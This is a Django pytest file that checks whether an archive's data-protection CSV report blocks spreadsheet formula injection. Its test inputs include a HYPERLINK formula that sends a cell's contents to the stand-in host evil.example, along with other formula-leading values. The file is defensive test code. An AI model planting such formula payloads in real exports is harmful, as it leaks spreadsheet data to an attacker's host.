"""The officer's CSV opens in a spreadsheet: no cell may run as a formula (issue #16.11)."""
import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client

from archive.services.access import case_file_read
from archive.services.reports import csv_cell
from tests.conftest import DEMO_PASSWORD, user

pytestmark = pytest.mark.django_db

PURPOSES = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1+2", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # German Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def _purposes(text: str) -> list[str]:
    rows = _rows(text)
    column = rows[0].index("Zweck")
    # The purposes logged above, quoted or not (the report logs itself with none).
    return [row[column] for row in rows[1:] if row[column].removeprefix("'") in PURPOSES]


@pytest.fixture
def logged(demo):
    for purpose in PURPOSES:
        case_file_read(user=user("sachbearbeitung-a"), case_file_id=demo["A"].pk,
                       purpose=purpose)
    return demo


def _neutralised(cells: list[str]) -> None:
    assert sorted(cells) == sorted("'" + purpose for purpose in PURPOSES)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_report_page_csv_neutralises_formulas(logged):
    client = Client()
    assert client.login(username="datenschutz", password=DEMO_PASSWORD)
    response = client.get("/datenschutz/bericht/", {
        "kind": "case_file", "subject": logged["A"].file_reference, "start": "2000-01-01",
        "end": "2999-12-31", "format": "csv"})
    assert response.status_code == 200
    _neutralised(_purposes(response.content.decode()))


def test_the_report_command_csv_neutralises_formulas(logged):
    out = StringIO()
    call_command("report", "case-file", logged["A"].file_reference, "--user", "datenschutz",
                 "--to", "2999-12-31", stdout=out)
    _neutralised(_purposes(out.getvalue()))


def test_plain_values_are_left_alone():
    assert csv_cell("Akte 50.20.1-2026-000001") == "Akte 50.20.1-2026-000001"
    assert csv_cell(None) == "" and csv_cell(17) == "17"
